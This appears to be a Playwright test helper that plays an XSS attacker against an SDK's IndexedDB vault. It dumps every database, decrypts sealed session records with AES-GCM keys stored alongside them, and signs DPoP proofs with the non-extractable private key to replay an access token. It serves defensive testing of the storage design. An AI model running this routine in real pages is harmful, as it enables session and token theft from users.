/**
 * What injected script can take from the SDK's IndexedDB vault, written as an attacker who has
 * read the SDK's source (packages/client/src/worker/vault.ts): every record of every database of
 * the origin, every sealed record decrypted with every AES-GCM key found next to it (the key is
 * non-extractable but usable: the page runs in the same origin as the worker that stored it), and
 * the DPoP key pair, which cannot be exported but can sign.
 */
import type { Page } from '@playwright/test'
import { base64url } from '../support/bytes'
import { evaluateWith } from '../support/in-page'
import { openVault, readAllDatabases, vaultNames } from '../support/page-idb'
import { SEALED_FORMAT } from '../support/sdk-names'

export interface VaultRaid {
  /** Every IndexedDB database of the origin. */
  readonly databases: string[]
  /** Each sealed record the raid could decrypt, by the record name in its key (`session`, `tx:…`). */
  readonly decrypted: { readonly name: string; readonly value: unknown }[]
  /** Sealed records no key opened. */
  readonly undecryptable: string[]
  /** What `exportKey` said for each key found: `'refused: InvalidAccessError'` for a non-extractable one. */
  readonly exports: { readonly record: string; readonly algorithm: string; readonly result: string }[]
}

export async function raidVault(page: Page): Promise<VaultRaid> {
  return evaluateWith(
    page,
    { readAllDatabases },
    async ({ readAllDatabases }, format) => {
      const dumps = await readAllDatabases()
      const databases = dumps.map((dump) => dump.name)
      const records = dumps.flatMap((dump) =>
        dump.stores.flatMap(({ keys, values }) => keys.map((key, index) => ({ key, value: values[index] }))),
      )

      const keys: { record: string; key: CryptoKey }[] = []
      for (const { key, value } of records) {
        const record = JSON.stringify(key)
        if (value instanceof CryptoKey) keys.push({ record, key: value })
        const pair = value as Partial<CryptoKeyPair> | null
        if (pair?.privateKey instanceof CryptoKey) keys.push({ record: `${record}.privateKey`, key: pair.privateKey })
      }
      const exports = await Promise.all(
        keys.map(async ({ record, key }) => ({
          record,
          algorithm: key.algorithm.name,
          result: await crypto.subtle.exportKey('jwk', key).then(
            () => 'exported',
            (error: DOMException) => `refused: ${error.name}`,
          ),
        })),
      )

      const decrypted: { name: string; value: unknown }[] = []
      const undecryptable: string[] = []
      for (const { key, value } of records) {
        const sealed = value as { format?: unknown; iv?: Uint8Array<ArrayBuffer>; ciphertext?: ArrayBuffer } | null
        if (sealed?.format !== format || !Array.isArray(key)) continue
        // The additional data binds a record to issuer, client and name: all three are in its key.
        const additionalData = new TextEncoder().encode(JSON.stringify([format, ...key]))
        let opened: unknown
        for (const candidate of keys.filter((k) => k.key.algorithm.name === 'AES-GCM')) {
          opened = await crypto.subtle
            .decrypt({ name: 'AES-GCM', iv: sealed.iv!, additionalData }, candidate.key, sealed.ciphertext!)
            .then(
              (plain) => JSON.parse(new TextDecoder().decode(plain)) as unknown,
              () => undefined,
            )
          if (opened !== undefined) break
        }
        if (opened === undefined) undecryptable.push(String(key.at(-1)))
        else decrypted.push({ name: String(key.at(-1)), value: opened })
      }
      return { databases, decrypted, undecryptable, exports }
    },
    SEALED_FORMAT,
  )
}

/**
 * Uses the vault's DPoP key where it is, in the page: signs a proof (RFC 9449 §4.2, with `ath`
 * for the access token, §4.3) and calls `url` with the decrypted access token. Returns the status.
 */
export async function callWithVaultKey(page: Page, url: string, accessToken: string): Promise<number> {
  return evaluateWith(
    page,
    { openVault, base64url },
    async ({ openVault, base64url }, { vaultNames, url, accessToken }) => {
      const vault = await openVault(vaultNames)
      const entries = await vault.entries()
      vault.close()
      const pair = entries.find(({ key }) => Array.isArray(key) && key.at(-1) === 'session-dpop-key')!
        .value as CryptoKeyPair
      const encode = (value: unknown) => base64url(new TextEncoder().encode(JSON.stringify(value)))
      const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', pair.publicKey)
      const ath = base64url(
        new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(accessToken))),
      )
      const header = encode({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } })
      const payload = encode({
        jti: crypto.randomUUID(),
        htm: 'GET',
        htu: url,
        iat: Math.floor(Date.now() / 1000),
        ath,
      })
      const signature = await crypto.subtle.sign(
        { name: 'ECDSA', hash: 'SHA-256' },
        pair.privateKey,
        new TextEncoder().encode(`${header}.${payload}`),
      )
      const proof = `${header}.${payload}.${base64url(new Uint8Array(signature))}`
      const response = await fetch(url, { headers: { authorization: `DPoP ${accessToken}`, dpop: proof } })
      return response.status
    },
    { vaultNames, url, accessToken },
  )
}
